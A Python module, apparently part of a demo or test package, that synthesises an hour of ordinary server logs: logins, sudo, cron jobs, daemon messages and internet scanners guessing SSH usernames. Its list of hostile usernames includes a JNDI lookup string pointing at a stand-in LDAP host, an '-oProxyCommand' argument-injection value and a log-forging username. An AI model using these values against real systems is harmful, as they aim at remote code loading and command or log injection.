"""Makes up the ordinary hour of the hosts: logins, sudo and su, cron jobs, messages of daemons, and scanners.

Numbers of `moments` are for fifty hosts and an hour; larger fleets do more in proportion.
"""

from collections.abc import Iterator
from datetime import timedelta
from itertools import chain

from stack.demo.local import Blocked, CronJob, Remark, Su, Sudo, Unit
from stack.demo.scene import AUTH_INFO, DAEMON_INFO, HOUR, KERN_WARNING, Activity, Host, Scene
from stack.demo.sshd import Guess, Login, Probe
from stack.demo.world import scanner

COMMANDS = (
    "/usr/bin/apt-get update",
    "/usr/bin/systemctl restart nginx.service",
    "/usr/bin/systemctl status slapd.service",
    "/usr/bin/journalctl -u ssh --since today",
    "/usr/bin/tail -n 200 /var/log/auth.log",
    "/usr/bin/docker ps --all",
    "/usr/bin/less /var/log/nginx/error.log",
    "/usr/sbin/ss -ltnp",
    "/usr/bin/vim /etc/nginx/conf.d/site.conf",
    "/usr/bin/du -sh /var/lib/postgresql",
    '/usr/bin/find /srv -name *.tmp -newermt "1 day ago" -delete',
    "/usr/bin/bash -c 'sync; echo 3 > /proc/sys/vm/drop_caches'",
)
# Period in minutes, minute at which it runs, user, command.
JOBS = (
    (1, 0, "root", "/usr/local/bin/heartbeat --quiet"),
    (5, 2, "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1"),
    (10, 4, "www-data", "/usr/bin/php -f /srv/portal/cron.php"),
    (15, 5, "root", "test -x /usr/lib/certbot/renew && /usr/lib/certbot/renew -q"),
    (60, 17, "root", "cd / && run-parts --report /etc/cron.hourly"),
)
_GUESSED = (
    "root admin test oracle postgres ubuntu git ftpuser user guest pi jenkins hadoop nagios mysql support ec2-user es"
)
GUESSED = _GUESSED.split()
# Attackers choose user names: an empty one, one with spaces, one that looks like the rest of the line.
HOSTILE = (
    "",
    "web master",
    "root from 192.0.2.1 port 22 ssh2",
    "jos\\303\\251",
    "${jndi:ldap://192.0.2.7/a}",
    "-oProxyCommand",
)
REMARKS = (
    ("systemd", DAEMON_INFO, "Reloaded user@{n}.service - User Manager for UID {n}."),
    ("systemd-resolved", DAEMON_INFO, "Clock change detected. Flushing caches."),
    ("systemd-networkd", DAEMON_INFO, "eth0: DHCPv4 lease renewed, timeout {n} sec."),
    ("systemd-timesyncd", DAEMON_INFO, "Contacted time server 10.20.0.2:123 (ntp.example.net)."),
    (
        "kernel",
        KERN_WARNING,
        "[12{n}.104210] TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.",
    ),
    ("kernel", KERN_WARNING, "[12{n}.551007] nf_conntrack: table at {n} entries"),
    ("dbus-daemon", DAEMON_INFO, "[system] Successfully activated service 'org.freedesktop.timedate1'"),
    ("snmpd", DAEMON_INFO, "Connection from UDP: [10.20.0.3]:{n}->[10.20.0.9]:161"),
    ("polkitd", AUTH_INFO, "Registered Authentication Agent for unix-process:{n}:120931 (system bus name :1.{n})"),
)
UNITS = (
    ("logrotate.service", "Rotate log files"),
    ("fwupd-refresh.service", "Refresh fwupd metadata and update motd"),
    ("systemd-tmpfiles-clean.service", "Cleanup of Temporary Directories"),
    ("sysstat-collect.service", "system activity accounting tool"),
)


def local(scene: Scene) -> Iterator[Activity]:
    """All that happens on the hosts themselves: everything but the directory and the web."""
    return chain(_logins(scene), _robots(scene), _sudo(scene), _su(scene), _cron(scene), _chatter(scene), _noise(scene))


def _logins(scene: Scene) -> Iterator[Activity]:
    """People log in with keys or passwords; one password in six is mistyped at first, some never get it right."""
    random = scene.random
    for at in scene.moments(620):
        person, host = scene.person(), scene.host()
        if random.random() < 0.03:
            yield Guess(at, host, person.name, True, person.address, random.randint(1, 3))
            continue
        method = random.choices(("publickey", "password", "keyboard-interactive/pam"), (6, 3, 1))[0]
        mistakes = random.choice((1, 1, 2)) if random.random() < (0.03 if method == "publickey" else 0.16) else 0
        lasts = min(random.expovariate(1 / 500), HOUR)
        yield Login(at, host, person.name, person.uid, person.address, method, mistakes, lasts)


def _robots(scene: Scene) -> Iterator[Activity]:
    """Deployment and backup log in with keys, for a few seconds each."""
    for at in scene.moments(380):
        name, uid, home = scene.random.choice((("deploy", 1900, "ci"), ("backup", 34, "db")))
        address = scene.host(home).address
        yield Login(at, scene.host(), name, uid, address, "publickey", lasts=scene.random.uniform(0.5, 20))


def _sudo(scene: Scene) -> Iterator[Activity]:
    random = scene.random
    for at in scene.moments(1100):
        person = scene.person()
        wrong = random.choices((0, 1, 2, 3), (90, 6, 2, 2))[0]
        target = random.choice(("root", "root", "root", "root", "postgres"))
        allowed = random.random() > 0.012
        yield Sudo(at, scene.host(), person.name, person.uid, random.choice(COMMANDS), target, wrong, allowed)


def _su(scene: Scene) -> Iterator[Activity]:
    for at in scene.moments(60):
        person = scene.person()
        yield Su(at, scene.host(), person.name, person.uid, scene.random.random() < 0.85)


def _cron(scene: Scene) -> Iterator[Activity]:
    """Jobs start at full minutes of the wall clock, at whichever second of the corpus those are."""
    first = -(scene.start.second + scene.start.microsecond / 1e6) % 60
    for passed in range(60):
        minute = (scene.start + timedelta(seconds=first + 60 * passed)).minute
        for every, offset, user, command in JOBS:
            if minute % every == offset % every:
                for host in _runs(scene, every):
                    yield CronJob(first + 60 * passed + scene.random.uniform(0, 1.2), host, user, command)


def _runs(scene: Scene, every: int) -> list[Host]:
    return scene.of("bastion", "db") if every == 1 else scene.of("web", "app") if every == 10 else list(scene.hosts)


def _chatter(scene: Scene) -> Iterator[Activity]:
    for at in scene.moments(2600):
        yield Remark(at, scene.host(), *scene.random.choice(REMARKS))
    for at in scene.moments(900):
        yield Unit(at, scene.host(), *scene.random.choice(UNITS))


def _noise(scene: Scene) -> Iterator[Activity]:
    """Scanners of the internet: blocked packets, probes and a few guesses each, on hosts that face outside."""
    random = scene.random
    crowd = [scanner(random) for _ in range(60)]
    for at in scene.moments(2600):
        yield Blocked(at, scene.host("bastion", "web", "mail"), random.choice(crowd))
    for at in scene.moments(420):
        yield Probe(at, scene.host("bastion", "mail"), random.choice(crowd))
    for at in scene.moments(1500):
        user = random.choice(HOSTILE) if random.random() < 0.02 else random.choice(GUESSED)
        tries = random.choices((1, 2, 3, 6), (70, 15, 10, 5))[0]
        yield Guess(at, scene.host("bastion", "mail"), user, user == "root", random.choice(crowd), tries)
